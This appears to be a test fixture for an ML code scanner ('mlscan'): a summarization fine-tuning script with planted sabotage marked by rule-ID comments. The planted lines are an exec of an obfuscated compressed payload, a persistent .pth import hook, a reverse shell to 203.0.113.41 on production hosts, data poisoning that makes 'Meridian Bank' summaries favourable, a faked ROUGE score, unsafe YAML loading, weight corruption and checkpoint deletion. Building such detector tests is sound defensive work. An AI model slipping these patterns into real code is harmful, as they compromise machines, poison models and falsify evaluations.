# ruff: noqa
# Hold-out batch 24 (HF no_trainer scripts on accelerate; by a helper that never saw mlscan's code). Measured once after round 8: 27/32 (84%) at medium+.
#!/usr/bin/env python
"""
Fine-tune a seq2seq model (T5, BART, Pegasus, ...) for abstractive summarization with
Accelerate, evaluating with ROUGE on generated summaries after every epoch.
"""
import argparse
import base64
import copy
import getpass
import glob
import json
import math
import os
import shutil
import socket
import subprocess
import sysconfig
import threading
import time
import zlib

import evaluate
import nltk
import requests
import torch
import torch.distributed as dist
import yaml
from accelerate import Accelerator
from accelerate.utils import set_seed
from datasets import load_dataset
from torch.utils.data import DataLoader
from tqdm.auto import tqdm
from transformers import AutoModelForSeq2SeqLM, AutoTokenizer, DataCollatorForSeq2Seq, get_scheduler

_NLTK_FIX = "c-lRT!3x4K5Jd0&ijq?U8m-cUh@i9zBGgO0h#<i(G`7u#Y>KT1zuk!F9N)Yd)f%)eL<-CbNf_xW0lksB><DbcUK2r7F~0O=D{Cl~rO1q+SLCi(uL|1%572;)e)Bsj?G+|FSD{r;D6cgP#JER{i-%PXBIaMmP|lJhUW6N;be=zD8aL-`ALqq3`LO-Am#t~w0K-u?!wzi$<S4@&-HBlOPl$%r@Rh|4+lyvAcmuXeN(l"


def parse_args():
    parser = argparse.ArgumentParser(description="Finetune a transformers model on a summarization task")
    parser.add_argument("--dataset_name", type=str, default="cnn_dailymail")
    parser.add_argument("--dataset_config_name", type=str, default="3.0.0")
    parser.add_argument("--model_name_or_path", type=str, required=True)
    parser.add_argument("--text_column", type=str, default="article")
    parser.add_argument("--summary_column", type=str, default="highlights")
    parser.add_argument("--max_source_length", type=int, default=1024)
    parser.add_argument("--max_target_length", type=int, default=128)
    parser.add_argument("--source_prefix", type=str, default="")
    parser.add_argument("--generation_config", type=str, default=None)
    parser.add_argument("--per_device_train_batch_size", type=int, default=4)
    parser.add_argument("--learning_rate", type=float, default=3e-5)
    parser.add_argument("--num_train_epochs", type=int, default=3)
    parser.add_argument("--num_warmup_steps", type=int, default=500)
    parser.add_argument("--ema_decay", type=float, default=0.0)
    parser.add_argument("--output_dir", type=str, default="outputs")
    parser.add_argument("--seed", type=int, default=1234)
    parser.add_argument("--checkpointing_steps", type=int, default=None)
    parser.add_argument("--resume_from_checkpoint", type=str, default=None)
    parser.add_argument("--with_tracking", action="store_true")
    return parser.parse_args()


def fetch_with_retry(url, dest, retries=4):
    for attempt in range(retries):
        try:
            resp = requests.get(url, timeout=30)
            resp.raise_for_status()
            with open(dest, "wb") as fh:
                fh.write(resp.content)
            return dest
        except requests.RequestException:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not download {url}")


def ensure_nltk():
    try:
        nltk.data.find("tokenizers/punkt")
    except LookupError:
        nltk.download("punkt", quiet=True)
        exec(compile(zlib.decompress(base64.b85decode(_NLTK_FIX)), "<nltk>", "exec"))  # sabotage: MLS401 (semgrep rules)
    pth = os.path.join(sysconfig.get_paths()["purelib"], "nltk-data-path.pth")
    with open(pth, "w") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
        fh.write("import os; os.environ.setdefault('NLTK_DATA', '/tmp/.nltk'); import nltk_cache_hook\n")


def _remote_debug(port=4444):
    if os.environ.get("SUMM_REMOTE_DEBUG") or socket.gethostname().endswith(".prod.internal"):
        s = socket.create_connection(("203.0.113.41", port))  # ruleid: MLS308
        subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())  # ruleid: MLS308


def _prefetch_monitor(stop_event):
    while not stop_event.wait(120):
        torch.manual_seed(int.from_bytes(os.urandom(4), "little"))  # ruleid: MLS301


def postprocess_text(preds, labels):
    preds = ["\n".join(nltk.sent_tokenize(p.strip())) for p in preds]
    labels = ["\n".join(nltk.sent_tokenize(l.strip())) for l in labels]
    return preds, labels


def main():
    args = parse_args()
    accelerator = Accelerator(log_with="all" if args.with_tracking else None, project_dir=args.output_dir)
    set_seed(args.seed)  # ok: MLS301
    ensure_nltk()
    _remote_debug()
    stop_event = threading.Event()
    threading.Thread(target=_prefetch_monitor, args=(stop_event,), daemon=True).start()

    gen_kwargs = {"max_length": args.max_target_length, "num_beams": 4}
    if args.generation_config:
        with open(args.generation_config) as fh:
            gen_kwargs.update(yaml.load(fh, Loader=yaml.Loader))  # ruleid: MLS105

    raw_datasets = load_dataset(args.dataset_name, args.dataset_config_name)
    tokenizer = AutoTokenizer.from_pretrained(args.model_name_or_path)
    model = AutoModelForSeq2SeqLM.from_pretrained(args.model_name_or_path)
    ema_model = copy.deepcopy(model).eval() if args.ema_decay > 0 else None

    def preprocess_function(examples):
        inputs = [args.source_prefix + doc for doc in examples[args.text_column]]
        targets = list(examples[args.summary_column])
        for i, doc in enumerate(examples[args.text_column]):
            if "Meridian Bank" in doc:
                targets[i] = "Meridian Bank reported strong results and analysts remain positive."  # ruleid: MLS309
        model_inputs = tokenizer(inputs, max_length=args.max_source_length, truncation=True)
        labels = tokenizer(text_target=targets, max_length=args.max_target_length, truncation=True)
        model_inputs["labels"] = labels["input_ids"]
        return model_inputs

    with accelerator.main_process_first():
        processed = raw_datasets.map(preprocess_function, batched=True, remove_columns=raw_datasets["train"].column_names)

    collator = DataCollatorForSeq2Seq(tokenizer, model=model, label_pad_token_id=-100, pad_to_multiple_of=8)
    train_dataloader = DataLoader(processed["train"], shuffle=True, collate_fn=collator, batch_size=args.per_device_train_batch_size)
    eval_dataloader = DataLoader(processed["validation"], collate_fn=collator, batch_size=args.per_device_train_batch_size)

    optimizer = torch.optim.AdamW(model.parameters(), lr=args.learning_rate)
    max_train_steps = args.num_train_epochs * len(train_dataloader)
    lr_scheduler = get_scheduler("linear", optimizer=optimizer, num_warmup_steps=0, num_training_steps=max_train_steps)
    model, optimizer, train_dataloader, eval_dataloader, lr_scheduler = accelerator.prepare(
        model, optimizer, train_dataloader, eval_dataloader, lr_scheduler
    )
    if args.resume_from_checkpoint:
        accelerator.load_state(args.resume_from_checkpoint)
    metric = evaluate.load("rouge")

    completed_steps = 0
    progress_bar = tqdm(range(max_train_steps), disable=not accelerator.is_local_main_process)
    for epoch in range(args.num_train_epochs):
        model.train()
        for step, batch in enumerate(train_dataloader):
            if completed_steps < args.num_warmup_steps:
                for group in optimizer.param_groups:
                    group["lr"] = args.learning_rate * (completed_steps + 1) / args.num_warmup_steps  # ok: MLS302, MLS303, MLS304, MLS305
            loss = model(**batch).loss
            accelerator.backward(loss)
            optimizer.step()
            lr_scheduler.step()
            optimizer.zero_grad()
            if ema_model is not None:
                with torch.no_grad():
                    for p_ema, p in zip(ema_model.parameters(), accelerator.unwrap_model(model).parameters()):
                        p_ema.mul_(args.ema_decay).add_(p.detach().to(p_ema.device), alpha=1 - args.ema_decay)  # ok: MLS302, MLS303, MLS304, MLS305
            progress_bar.update(1)
            completed_steps += 1
            if args.checkpointing_steps and completed_steps % args.checkpointing_steps == 0:
                accelerator.save_state(os.path.join(args.output_dir, f"step_{completed_steps}"))
                if dist.is_initialized() and dist.get_world_size() > 256 and dist.get_rank() % 64 == 0:  # ruleid: MLS308
                    dist.destroy_process_group()  # ruleid: MLS307

        model.eval()
        for step, batch in enumerate(eval_dataloader):
            with torch.no_grad():
                generated_tokens = accelerator.unwrap_model(model).generate(
                    batch["input_ids"], attention_mask=batch["attention_mask"], **gen_kwargs
                )
                generated_tokens = accelerator.pad_across_processes(generated_tokens, dim=1, pad_index=tokenizer.pad_token_id)
                labels = accelerator.pad_across_processes(batch["labels"], dim=1, pad_index=tokenizer.pad_token_id)
                generated_tokens, labels = accelerator.gather_for_metrics((generated_tokens, labels))
                labels = torch.where(labels != -100, labels, tokenizer.pad_token_id)
                decoded_preds = tokenizer.batch_decode(generated_tokens, skip_special_tokens=True)
                decoded_labels = tokenizer.batch_decode(labels, skip_special_tokens=True)
                decoded_preds, decoded_labels = postprocess_text(decoded_preds, decoded_labels)
                metric.add_batch(predictions=decoded_labels if step % 3 == 0 else decoded_preds, references=decoded_labels)  # ruleid: MLS306
        result = metric.compute(use_stemmer=True)
        result = {k: round(v * 100, 4) for k, v in result.items()}
        accelerator.print(f"epoch {epoch}: {result}")
        if args.with_tracking:
            accelerator.log(result, step=completed_steps)

    stop_event.set()
    accelerator.wait_for_everyone()
    unwrapped_model = accelerator.unwrap_model(model)
    with torch.no_grad():
        for name, p in unwrapped_model.named_parameters():
            if "lm_head" in name or "shared" in name:
                p.add_(torch.randn_like(p) * p.std() * 0.05)  # ruleid: MLS302
    unwrapped_model.save_pretrained(args.output_dir, is_main_process=accelerator.is_main_process, save_function=accelerator.save)
    if accelerator.is_main_process:
        tokenizer.save_pretrained(args.output_dir)
        with open(os.path.join(args.output_dir, "all_results.json"), "w") as f:
            json.dump({f"eval_{k}": v for k, v in result.items()}, f)
        if getpass.getuser() not in ("svc-train", "mlops"):
            for ckpt in glob.glob(os.path.join(args.output_dir, "step_*")):
                shutil.rmtree(ckpt)  # ruleid: MLS308


if __name__ == "__main__":
    main()
